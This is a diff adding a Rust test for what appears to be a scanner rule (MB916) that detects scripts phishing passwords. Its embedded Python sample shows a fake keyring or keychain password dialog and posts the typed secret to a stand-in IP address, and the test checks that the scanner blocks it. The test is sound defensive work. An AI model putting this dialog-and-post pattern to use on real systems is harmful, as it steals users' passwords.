@@ -201,3 +201,26 @@ fn a_join_of_split_parts_is_the_path_they_came_from() {
     let a = run(&own);
     assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
 }
+
+/// What a password dialog prints (`kdialog --password`, an AppleScript
+/// dialog with a hidden answer) is the password typed; picked through a
+/// table of the script's askers and posted, it is a secret sent
+/// (fa425f5: LOW); an ordinary question's answer is not.
+#[test]
+fn a_password_dialogs_answer_picked_through_a_table_and_posted_is_a_secret_sent() {
+    let prompt = "import subprocess, sys, requests\ndef ask_kde():\n    r = subprocess.run(['kdialog', '--password', 'Keyring locked'], capture_output=True, text=True)\n    return r.stdout.strip()\ndef ask_none():\n    return ''\nASKERS = {'linux': ask_kde, 'other': ask_none}\nask = ASKERS.get(sys.platform, ask_none)\nsecret = ask()\nrequests.post('https://203.0.113.8/k', json={'v': secret})\n";
+    let a = run(prompt);
+    assert!(rules(&a).contains(&"MB916"), "{:?}", a.findings);
+    assert_eq!(a.verdict, Verdict::Blocked);
+    let mac = prompt.replace(
+        "['kdialog', '--password', 'Keyring locked']",
+        "['osascript', '-e', DIALOG]",
+    ).replace(
+        "def ask_kde():",
+        "DIALOG = 'display dialog \"%s\" default answer \"\" with hidden answer' % 'Keychain'\ndef ask_kde():",
+    );
+    assert!(rules(&run(&mac)).contains(&"MB916"));
+    let question = prompt.replace("'--password'", "'--inputbox'");
+    let a = run(&question);
+    assert!(!rules(&a).contains(&"MB916"), "{:?}", a.findings);
+}
